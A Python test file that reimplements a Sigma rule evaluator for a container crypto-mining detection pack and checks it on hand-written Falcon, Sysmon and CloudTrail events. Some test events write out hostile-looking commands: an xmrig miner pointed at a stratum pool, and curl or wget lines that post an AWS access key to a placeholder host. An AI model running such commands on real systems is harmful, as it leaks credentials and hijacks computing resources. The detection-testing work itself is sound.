"""An independent reading of the T1204.003 rule pack, the oracle the corpus labels are checked
against, and tests that pin its semantics on hand-written Falcon and Sysmon events.

The oracle reads every rule's `logsource` and `detection` from the YAML files and evaluates
them with plain Python: Sigma's `contains` / `endswith` / plain equality (ASCII letters folded),
`exists`, `cidr` and integer values, lists of values (OR), maps (AND), lists of maps (OR) and
the condition expression (`and`, `or`, `not`, parentheses, `1 of` / `all of` a prefix). The
field maps of the sources are written out here, from FORMATS.md, not imported. A rule applies
when every logsource key it names (category, product, service) equals the event's.

CloudTrail: a record is an object whose eventSource ends in `.amazonaws.com` (logsource
product aws, service cloudtrail, no category); its fields are read by their native names, as
is (an empty string is a value, not a missing field). A `{"Records": [...]}` line is labelled
with the rules that fire on any of its records.
"""

from __future__ import annotations

import ipaddress
import re
import sys
from collections.abc import Callable, Iterable, Mapping, Sequence
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
RULES_DIR = ROOT / "rules" / "t1204.003-malicious-image"

try:
    from retrohunt.corpus import labels_of
except ModuleNotFoundError:  # a checkout without `pip install -e .`
    sys.path.insert(0, str(ROOT / "batch"))
    from retrohunt.corpus import labels_of

MINER = "MinerProcessExecution"
ARGS = "MinerCommandLineArgs"
IN_CONTAINER = "MinerInContainer"
DOWNLOADER = "DownloaderInContainer"
EXFIL = "ContainerCredentialExfiltration"
CONN = "MiningPoolNetworkConnection"
DNS = "MiningPoolDNSLookup"
AWS_LAUNCH = "AWSInstanceLaunch"
ALL_RULES = {MINER, ARGS, IN_CONTAINER, DOWNLOADER, EXFIL, CONN, DNS}  # Falcon and Sysmon
EVERY_RULE = ALL_RULES | {AWS_LAUNCH}

# Taxonomy field -> native fields, first non-empty wins (sources/falcon.py, sources/sysmon.py).
FALCON_FIELDS = {
    "Image": ("ImageFileName", "ContextBaseFileName"),
    "CommandLine": ("CommandLine",),
    "ParentImage": ("ParentImageFileName", "ParentBaseFileName"),
    "ContainerId": ("OciContainerId",),
    "DestinationIp": ("RemoteAddressIP4", "RemoteAddressIP6"),
    "DestinationPort": ("RemotePort",),
    "QueryName": ("DomainName",),
    "Initiated": ("ConnectionDirection",),
}
# Falcon's ConnectionDirection read as Sigma's Initiated: "0" outbound, "1" inbound, any other
# value no Initiated at all (FORMATS.md).
FALCON_VALUES = {"Initiated": {"0": "true", "1": "false"}}
# Network and DNS events of Falcon name their process only by ContextProcessId: these fields
# come from the process event with the same aid and TargetProcessId = ContextProcessId, found
# anywhere in the archives scanned together, when the event has no value of its own.
FALCON_PROCESS_FIELDS = ("Image", "CommandLine", "ParentImage", "User", "ContainerId")
FALCON_JOINED_CATEGORIES = {"network_connection", "dns_query"}
FALCON_CATEGORIES = {
    "ProcessRollup2": "process_creation",
    "SyntheticProcessRollup2": "process_creation",
    "NetworkConnectIP4": "network_connection",
    "NetworkConnectIP6": "network_connection",
    "DnsRequest": "dns_query",
}
SYSMON_FIELDS = {
    name: (name,)
    for name in (
        "Image",
        "CommandLine",
        "ParentImage",
        "DestinationIp",
        "DestinationPort",
        "Initiated",
    )
} | {"QueryName": ("QueryName",)}
SYSMON_CATEGORIES = {"1": "process_creation", "3": "network_connection", "22": "dns_query"}
FALCON_PRODUCTS = {"Win": "windows", "Lin": "linux", "Mac": "macos", "iOS": "ios"}
CLOUDTRAIL_MARKER = re.compile(r"(?i)\.amazonaws\.com$")
CLOUDTRAIL_ENVELOPE = "Records"

_UPPER = bytes(range(65, 91))
_FOLD = bytes.maketrans(_UPPER, bytes(range(97, 123)))


def ascii_fold(text: str) -> str:
    return text.encode("utf-8", "surrogatepass").translate(_FOLD).decode("utf-8", "surrogatepass")


def as_text(value: Any) -> str | None:
    """A JSON value as text; None when absent or empty (an empty string counts as missing)."""
    if value is None:
        return None
    if isinstance(value, bool):
        text = "true" if value else "false"
    else:
        text = value if isinstance(value, str) else str(value)
    return text or None


# ---------------------------------------------------------------------------------------------
# The rules, read from YAML
# ---------------------------------------------------------------------------------------------


@cache
def rule_docs() -> dict[str, dict[str, Any]]:
    docs = {}
    for path in sorted(RULES_DIR.glob("*.yml")):
        doc: dict[str, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
        docs[doc["name"]] = doc
    assert set(docs) >= EVERY_RULE, sorted(docs)
    return docs


def values_of(rule: str, selection: str, key: str) -> list[Any]:
    """The value list of one key of a selection (maps or lists of maps)."""
    sel = rule_docs()[rule]["detection"][selection]
    for block in sel if isinstance(sel, list) else [sel]:
        if key in block:
            got = block[key]
            return list(got) if isinstance(got, list) else [got]
    raise KeyError((rule, selection, key))


def _ipv4(text: str) -> ipaddress.IPv4Address | None:
    parts = text.split(".")
    if len(parts) != 4 or not all(re.fullmatch(r"[0-9]{1,3}", p) for p in parts):
        return None
    numbers = [int(p) for p in parts]
    if max(numbers) > 255:
        return None
    return ipaddress.IPv4Address(bytes(numbers))


def in_network(text: str | None, network: str) -> bool:
    if text is None:
        return False
    net = ipaddress.ip_network(network)
    if net.version == 4:
        ip4 = _ipv4(text)
        return ip4 is not None and ip4 in net
    if ":" not in text:
        return False
    try:
        return ipaddress.IPv6Address(text) in net
    except ValueError:
        return False


def match_value(field_text: str | None, modifiers: list[str], value: Any) -> bool:
    if "exists" in modifiers:
        return (field_text is not None) == bool(value)
    if field_text is None:
        return False
    if "cidr" in modifiers:
        return in_network(field_text, str(value))
    if isinstance(value, int) and not isinstance(value, bool):
        return bool(re.fullmatch(r"-?[0-9]+", field_text)) and int(field_text) == value
    needle = str(value)
    assert "*" not in needle and "?" not in needle, "wildcards are not used by this pack"
    text, needle = ascii_fold(field_text), ascii_fold(needle)
    if "contains" in modifiers:
        return needle in text
    if "endswith" in modifiers:
        return text.endswith(needle)
    if "startswith" in modifiers:
        return text.startswith(needle)
    assert not modifiers, modifiers
    return text == needle


def match_map(block: Mapping[str, Any], get: Callable[[str], str | None]) -> bool:
    for key, want in block.items():
        name, *modifiers = key.split("|")
        values = want if isinstance(want, list) else [want]
        all_of = "all" in modifiers
        modifiers = [m for m in modifiers if m != "all"]
        hits = [match_value(get(name), modifiers, v) for v in values]
        if not (all(hits) if all_of else any(hits)):
            return False
    return True


def match_selection(selection: Any, get: Callable[[str], str | None]) -> bool:
    if isinstance(selection, list):
        return any(match_map(block, get) for block in selection)
    return match_map(selection, get)


def evaluate_condition(condition: str, selections: dict[str, bool]) -> bool:
    tokens = re.findall(r"\(|\)|[A-Za-z0-9_*]+", condition)
    pos = 0

    def peek() -> str | None:
        return tokens[pos] if pos < len(tokens) else None

    def take() -> str:
        nonlocal pos
        pos += 1
        return tokens[pos - 1]

    def or_expr() -> bool:
        value = and_expr()
        while peek() == "or":
            take()
            right = and_expr()
            value = value or right
        return value

    def and_expr() -> bool:
        value = not_expr()
        while peek() == "and":
            take()
            right = not_expr()
            value = value and right
        return value

    def not_expr() -> bool:
        if peek() == "not":
            take()
            return not not_expr()
        return atom()

    def atom() -> bool:
        token = take()
        if token == "(":
            value = or_expr()
            assert take() == ")"
            return value
        if token in ("1", "all") and peek() == "of":
            take()
            pattern = take()
            names = [n for n in selections if re.fullmatch(pattern.replace("*", ".*"), n)]
            hits = [selections[n] for n in names]
            return any(hits) if token == "1" else all(hits)
        return selections[token]

    result = or_expr()
    assert pos == len(tokens), condition
    return result


Logsource = tuple[str | None, str | None, str | None]  # category, product, service


Processes = Mapping[tuple[str, str], Mapping[str, Any]]  # (aid, TargetProcessId) -> event
NO_PROCESSES: Processes = {}


def falcon_processes(objs: Iterable[Mapping[str, Any]]) -> dict[tuple[str, str], Mapping[str, Any]]:
    """Every Falcon process event of a stream by (aid, TargetProcessId), the last one winning."""
    found: dict[tuple[str, str], Mapping[str, Any]] = {}
    for obj in objs:
        if obj.get("event_simpleName") in ("ProcessRollup2", "SyntheticProcessRollup2"):
            aid, pid = as_text(obj.get("aid")), as_text(obj.get("TargetProcessId"))
            if aid is not None and pid is not None:
                found[(aid, pid)] = obj
    return found


def stream_expected(objs: Sequence[Mapping[str, Any]]) -> list[tuple[str, ...]]:
    """expected_rules of every line of an archive, with the Falcon process join over all of
    it (two passes: the processes first, wherever they are, then the labels)."""
    processes = falcon_processes(objs)
    return [expected_rules(obj, processes) for obj in objs]


def event_view(
    obj: Mapping[str, Any], processes: Processes = NO_PROCESSES
) -> tuple[Logsource | None, Callable[[str], str | None]]:
    """The Sigma logsource of an event (None: no source claims it) and a getter of its
    taxonomy fields."""
    marker = as_text(obj.get("Channel")) or as_text(obj.get("SourceName"))
    sysmon = marker is not None and "sysmon" in marker.lower()
    if (
        as_text(obj.get("event_simpleName")) is None
        and not sysmon
        and isinstance(obj.get("eventSource"), str)
    ):  # sources in the engine's order: Falcon, Sysmon, CloudTrail
        if not CLOUDTRAIL_MARKER.search(obj["eventSource"]):
            return None, lambda name: None

        def native(name: str) -> str | None:
            value = obj.get(name)
            if value is None:
                return None
            if isinstance(value, bool):
                return "true" if value else "false"
            return value if isinstance(value, str) else str(value)

        return (None, "aws", "cloudtrail"), native
    if as_text(obj.get("event_simpleName")) is not None:
        fields = FALCON_FIELDS
        category = FALCON_CATEGORIES.get(obj["event_simpleName"])
        logsource = (category, FALCON_PRODUCTS.get(obj.get("event_platform", "")), None)
    else:
        marker = as_text(obj.get("Channel")) or as_text(obj.get("SourceName"))
        if marker is None or "sysmon" not in marker.lower():
            return None, lambda name: None
        fields = SYSMON_FIELDS
        category = SYSMON_CATEGORIES.get(as_text(obj.get("EventID")) or "")
        linux = obj.get("Channel") == "Linux-Sysmon/Operational"
        logsource = (category, "linux" if linux else "windows", "sysmon")

    values = FALCON_VALUES if fields is FALCON_FIELDS else {}
    process: Mapping[str, Any] | None = None
    if fields is FALCON_FIELDS and category in FALCON_JOINED_CATEGORIES:
        key = (as_text(obj.get("aid")) or "", as_text(obj.get("ContextProcessId")) or "")
        process = processes.get(key)

    def own(event: Mapping[str, Any], name: str) -> str | None:
        for native in fields.get(name, ()):
            text = as_text(event.get(native))
            if text is not None:
                return values[name].get(text) if name in values else text
        return None

    def get(name: str) -> str | None:
        text = own(obj, name)
        if text is None and process is not None and name in FALCON_PROCESS_FIELDS:
            return own(process, name)
        return text

    return logsource, get


def expected_rules(obj: Mapping[str, Any], processes: Processes = NO_PROCESSES) -> tuple[str, ...]:
    """The names of the rules that fire on one decoded line, sorted (a Records line: on any of
    its records). `processes`: the Falcon process events the line's archive holds (see
    stream_expected); without them a Falcon network event's process is unknown."""
    records = obj.get(CLOUDTRAIL_ENVELOPE)
    if isinstance(records, list) and records:
        return tuple(sorted({rule for record in records for rule in expected_rules(record)}))
    logsource, get = event_view(obj, processes)
    if logsource is None:
        return ()
    found = []
    for name, doc in rule_docs().items():
        wanted = (doc["logsource"].get(k) for k in ("category", "product", "service"))
        if any(w is not None and w != have for w, have in zip(wanted, logsource, strict=True)):
            continue
        detection = dict(doc["detection"])
        condition = detection.pop("condition")
        selections = {sel: match_selection(body, get) for sel, body in detection.items()}
        if evaluate_condition(condition, selections):
            found.append(name)
    return tuple(sorted(found))


# ---------------------------------------------------------------------------------------------
# The oracle on hand-written events (and the generator's own labeller agrees)
# ---------------------------------------------------------------------------------------------


def falcon_proc(image: str, cmd: str, parent: str, **extra: str) -> dict[str, Any]:
    return {
        "event_simpleName": "ProcessRollup2",
        "ImageFileName": image,
        "CommandLine": cmd,
        "ParentBaseFileName": parent,
        **extra,
    }


def sysmon_proc(image: str, cmd: str, parent: str, **extra: Any) -> dict[str, Any]:
    return {
        "EventID": 1,
        "Channel": "Linux-Sysmon/Operational",
        "Image": image,
        "CommandLine": cmd,
        "ParentImage": parent,
        **extra,
    }


def sysmon_net(image: str, ip: str, port: Any, **extra: Any) -> dict[str, Any]:
    return {
        "EventID": 3,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": image,
        "DestinationIp": ip,
        "DestinationPort": port,
        **extra,
    }


def run_instances(**extra: Any) -> dict[str, Any]:
    return {
        "eventSource": "ec2.amazonaws.com",
        "eventName": "RunInstances",
        "awsRegion": "us-east-1",
        "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-0c0ffee"}]}},
        **extra,
    }


CID = "ab" * 32
AWS = "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"
CASES: list[tuple[str, dict[str, Any], set[str]]] = [
    (
        "falcon xmrig under the shim (Atomic 1)",
        falcon_proc("/tmp/xmrig", "xmrig -o stratum+tcp://p:3333", "containerd-shim-runc-v2"),
        {MINER, ARGS, IN_CONTAINER},
    ),
    (
        "falcon ParentImageFileName wins over the base name",
        falcon_proc(
            "/tmp/xmrig", "xmrig", "runc", ParentImageFileName="/usr/local/bin/runc-wrapper"
        ),
        {MINER},
    ),
    (
        "falcon empty ParentImageFileName falls back to the base name",
        falcon_proc("/tmp/xmrig", "xmrig", "runc", ParentImageFileName=""),
        {MINER, IN_CONTAINER},
    ),
    (
        "claymore is not in MinerInContainer's list",
        falcon_proc("/x/claymore", "c", "runc"),
        {MINER},
    ),
    (
        "stratum+tcp without :// is only MinerCommandLineArgs",
        falcon_proc("/g", "grep stratum+tcp /e", "bash"),
        {ARGS},
    ),
    (
        "-o pool. is only MinerProcessExecution",
        falcon_proc("/usr/bin/gcc", "gcc -o pool.o", "make"),
        {MINER},
    ),
    (
        "health-check curl from the shim",
        falcon_proc("/usr/bin/curl", "curl http://127.0.0.1/h", "containerd-shim"),
        {DOWNLOADER},
    ),
    (
        "curl under conmon is not a runtime child",
        falcon_proc("/usr/bin/curl", "curl x", "conmon"),
        set(),
    ),
    ("wget2 is not wget", falcon_proc("/usr/bin/wget2", "wget2 x", "runc"), set()),
    ("Kelvin sign does not fold to k", falcon_proc("/usr/bin/curl", "c", "doc\u212aerd"), set()),
    (
        "credentials through the container id only (Atomic 5)",
        falcon_proc("/usr/bin/curl", f"curl -d {AWS} http://x", "sh", OciContainerId=CID),
        {EXFIL},
    ),
    (
        "credentials from a runtime child",
        falcon_proc("/usr/bin/wget", f"wget --post-data={AWS} x", "runc"),
        {EXFIL, DOWNLOADER},
    ),
    ("credentials outside a container", falcon_proc("/usr/bin/curl", f"curl {AWS}", "bash"), set()),
    (
        "an empty container id is no container",
        falcon_proc("/usr/bin/curl", f"curl {AWS}", "bash", OciContainerId=""),
        set(),
    ),
    (
        "falcon network to a public pool port, no image",
        {
            "event_simpleName": "NetworkConnectIP4",
            "RemoteAddressIP4": "45.9.1.2",
            "RemotePort": 3333,
        },
        {CONN},
    ),
    (
        "loopback on 3333 (Atomic 3)",
        {
            "event_simpleName": "NetworkConnectIP4",
            "RemoteAddressIP4": "127.0.0.1",
            "RemotePort": "3333",
        },
        set(),
    ),
    (
        "IPv4-mapped private address is outside the filter",
        {
            "event_simpleName": "NetworkConnectIP6",
            "RemoteAddressIP6": "::ffff:10.0.0.5",
            "RemotePort": "4444",
        },
        {CONN},
    ),
    (
        "falcon DNS",
        {"event_simpleName": "DnsRequest", "DomainName": "POOL.MINEXMR.COM."},
        {DNS},
    ),
    ("near-miss domain", {"event_simpleName": "DnsRequest", "DomainName": "minexmr.co"}, set()),
    (
        "sysmon xmrig under runc, EventID as a string",
        sysmon_proc("/tmp/xmrig", "xmrig", "/usr/bin/runc", EventID="1"),
        {MINER, IN_CONTAINER},
    ),
    (
        "sysmon has no container id",
        sysmon_proc("/usr/bin/curl", f"curl {AWS}", "/usr/bin/dash"),
        set(),
    ),
    (
        "sysmon runtime child with credentials",
        sysmon_proc("/usr/bin/curl", f"curl {AWS}", "/usr/bin/containerd-shim-runc-v2"),
        {EXFIL, DOWNLOADER},
    ),
    ("a bare `curl` image name", sysmon_proc("curl", "curl x", "/usr/bin/dockerd"), {DOWNLOADER}),
    ("busybox wget", sysmon_proc("/bin/busybox", "wget x", "/usr/bin/runc"), set()),
    (
        "browser on a pool port (sysmon has the image)",
        sysmon_net(r"C:\Program Files\Google\Chrome\Application\CHROME.EXE", "45.9.1.2", "3333"),
        set(),
    ),
    (
        "a Linux browser is not in the filter",
        sysmon_net("/usr/lib/firefox/firefox", "45.9.1.2", "4444"),
        {CONN},
    ),
    ("IPv6 loopback written out", sysmon_net("C:\\a.exe", "0:0:0:0:0:0:0:1", 3333), set()),
    ("172.31.x is private", sysmon_net("C:\\a.exe", "172.31.200.1", "3333"), set()),
    ("172.32.x is public", sysmon_net("C:\\a.exe", "172.32.0.1", "3333"), {CONN}),
    (
        "only SourceName",
        {"EventID": 22, "SourceName": "Microsoft-Windows-Sysmon", "QueryName": "xmrpool.eu"},
        {DNS},
    ),
    (
        "the Security channel is not Sysmon",
        {"EventID": 1, "Channel": "Security", "Image": "/tmp/xmrig", "CommandLine": "xmrig"},
        set(),
    ),
    (
        "Sysmon EventID 5 is not a process creation",
        sysmon_proc("/tmp/xmrig", "x", "", EventID=5),
        set(),
    ),
    ("CloudTrail RunInstances (Atomic 4)", run_instances(), {AWS_LAUNCH}),
    ("RunInstances with a null errorCode", run_instances(errorCode=None), {AWS_LAUNCH}),
    ("dry run", run_instances(errorCode="Client.DryRunOperation"), set()),
    ("denied", run_instances(errorCode="Client.UnauthorizedOperation"), set()),
    ("an empty errorCode is present (a native field)", run_instances(errorCode=""), set()),
    ("eventName folds case", run_instances(eventName="runINSTANCES"), {AWS_LAUNCH}),
    ("eventSource folds case", run_instances(eventSource="EC2.amazonaws.com"), {AWS_LAUNCH}),
    (
        "an upper-case .AMAZONAWS.COM is a CloudTrail record too",
        run_instances(eventSource="EC2.AMAZONAWS.COM"),
        {AWS_LAUNCH},
    ),
    ("whole-value equality", run_instances(eventName="RunInstancesX"), set()),
    ("another service", run_instances(eventSource="lightsail.amazonaws.com"), set()),
    ("StopInstances", run_instances(eventName="StopInstances"), set()),
    (
        "launch template: no imageId in the request",
        run_instances(requestParameters={"launchTemplate": {"launchTemplateId": "lt-1"}}),
        {AWS_LAUNCH},
    ),
    (
        "a Records line with a launch among other records",
        {"Records": [run_instances(eventName="DescribeInstances"), run_instances()]},
        {AWS_LAUNCH},
    ),
    (
        "a Records line of a dry run and a stop",
        {
            "Records": [
                run_instances(errorCode="Client.DryRunOperation"),
                run_instances(eventName="StopInstances"),
            ]
        },
        set(),
    ),
    (
        # Without event_platform the engine alerts: the event's product is then null, and the
        # engine lets a null product match a rule's `product: aws`.
        "RunInstances on a Falcon line",
        {"event_simpleName": "ProcessRollup2", "event_platform": "Lin", **run_instances()},
        set(),
    ),
    (
        "RunInstances on a Sysmon line",
        sysmon_proc("/usr/local/bin/aws", "aws ec2 run-instances", "/bin/bash", **run_instances()),
        set(),
    ),
]


@pytest.mark.parametrize(
    ("event", "want"), [(e, w) for _, e, w in CASES], ids=[c[0] for c in CASES]
)
def test_oracle_and_generator_labeller_on_hand_written_events(
    event: dict[str, Any], want: set[str]
) -> None:
    assert set(expected_rules(event)) == want
    assert labels_of(event) == expected_rules(event)


def test_condition_parser() -> None:
    sel = {"a": True, "b": False, "selection_x": False, "selection_y": True}
    assert evaluate_condition("a and not b", sel)
    assert not evaluate_condition("(a or b) and b", sel)
    assert evaluate_condition("1 of selection_*", sel)
    assert not evaluate_condition("all of selection_*", sel)
    assert evaluate_condition("not (b or not a)", sel)
